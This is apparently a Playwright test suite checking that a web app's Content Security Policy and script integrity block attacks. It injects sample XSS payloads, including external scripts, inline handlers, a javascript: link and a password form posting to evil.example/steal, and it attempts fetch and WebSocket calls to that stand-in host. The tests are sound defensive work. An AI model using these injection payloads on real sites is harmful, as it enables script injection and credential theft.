import type { Page, Request } from 'playwright-core';
import * as assert from 'uvu/assert';
import { readDist } from '../build/built-elsewhere';
import { browserSuite, type Stage } from './chromium';
import { keepOnce } from './player';

const { test, run } = browserSuite('the security policy', '127.0.0.72');

const dist = await readDist(process.env.DIST ?? 'dist');

interface Kept {
  readonly violations: string[];
  readonly ran: string[];
}

/** Runs a scene in a page whose policy violations are expected: they are recorded and don't fail the test. */
async function attacked({ browser, sandbox }: Stage, scene: (page: Page) => Promise<void>): Promise<void> {
  const context = await browser.newContext({ baseURL: sandbox.origin, serviceWorkers: 'block' });
  try {
    const page = await context.newPage();
    page.setDefaultTimeout(30_000);
    await page.addInitScript(() => {
      const kept: Kept = { violations: [], ran: [] };
      Object.assign(window, kept);
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        kept.violations.push(effectiveDirective);
      });
    });
    const abroad: Request[] = [];
    page.on('request', (request) => {
      if (new URL(request.url()).hostname === 'evil.example') abroad.push(request);
    });
    await scene(page);
    const sent = abroad.filter((request) => request.failure()?.errorText !== 'csp').map((request) => request.url());
    assert.equal(sent, [], 'no request was sent to another host');
    assert.equal(await page.evaluate(() => (window as unknown as Kept).ran), []);
  } finally {
    await context.close();
  }
}

const INJECTED = `
<base href="https://evil.example/">
<script>ran.push('inline script')</script>
<script src="https://evil.example/a.js"></script>
<img src="/none.png" onerror="ran.push('inline handler')">
<img src="https://evil.example/pixel.png">
<style>body { display: none }</style>
<object data="https://evil.example/o"></object>
<iframe src="https://evil.example/frame"></iframe>
<a id="evil-link" href="javascript:ran.push('javascript link')">A link</a>
<form id="evil-form" action="https://evil.example/steal" method="post"><input name="password" value="x"></form>
</body>`;

test('markup injected into the page does nothing, and a script reaches no other host and writes no markup', async (stage) => {
  await attacked(stage, async (page) => {
    await page.route('**/login', async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: (await response.text()).replace('</body>', INJECTED) });
    });
    await page.goto('/login');
    await page.locator('#evil-link').click();
    await page.evaluate(() => document.querySelector<HTMLFormElement>('#evil-form')?.submit());
    await page.evaluate(() => {
      const attempts: readonly (() => unknown)[] = [
        () => fetch('https://evil.example/', { method: 'POST', body: 'x', mode: 'no-cors' }),
        () => new WebSocket('wss://evil.example/'),
        // The policy refuses it: require-trusted-types-for.
        () => Object.assign(document.body, { innerHTML: '<b>injected</b>' }),
      ];
      // In a task of its own: the policy doesn't apply to the code that the test evaluates.
      for (const attempt of attempts)
        setTimeout(() =>
          Promise.resolve()
            .then(attempt)
            .catch(() => {}),
        );
    });
    for (const directive of [
      'base-uri',
      'script-src-elem',
      'script-src-attr',
      'img-src',
      'style-src-elem',
      'object-src',
      'frame-src',
      'form-action',
      'connect-src',
      'require-trusted-types-for',
    ]) {
      await page.waitForFunction((name) => (window as unknown as Kept).violations.includes(name), directive);
    }
    assert.is(page.url(), `${stage.sandbox.origin}/login`);
    assert.is(await page.evaluate(() => document.baseURI), `${stage.sandbox.origin}/login`);
  });
});

test('a modified script doesn’t run, be it the core or the shell', async (stage) => {
  const html = dist.get('dashboard/index.html') ?? '';
  const named = [...html.matchAll(/(?: src| rel="modulepreload" href)="(\/assets\/[^"]+\.js)"/g)].map(
    ([, one = '']) => one,
  );
  const [core = '', shell = ''] = named;
  // The page is reloaded once before it says that the code is missing.
  const givenUp = (page: Page) => page.getByRole('button', { name: 'Reload' }).waitFor();
  for (const [address, visit] of [
    [core, (page: Page) => page.goto('/login').then(() => page.waitForLoadState('networkidle'))],
    [shell, (page: Page) => page.goto('/dashboard').then(() => givenUp(page))],
    [
      shell,
      // The sign-in imports it: the import map has its hash.
      async (page: Page) => {
        await page.goto('/login');
        const fetched = page.waitForResponse(`**${shell}`);
        await page.getByLabel('Username').pressSequentially('asha');
        await fetched;
        await page.waitForLoadState('networkidle');
      },
    ],
  ] as const) {
    await attacked(stage, async (page) => {
      await keepOnce(page, { authToken: stage.sandbox.signIn('asha') });
      // Reported as it happens: a page that lacks code may be reloading when one asks it.
      let ran = 0;
      await page.exposeFunction('tampered', () => ran++);
      await page.route(`**${address}`, async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, body: `tampered();${await response.text()}` });
      });
      await visit(page);
      assert.is(ran, 0, address);
    });
  }
});

run();
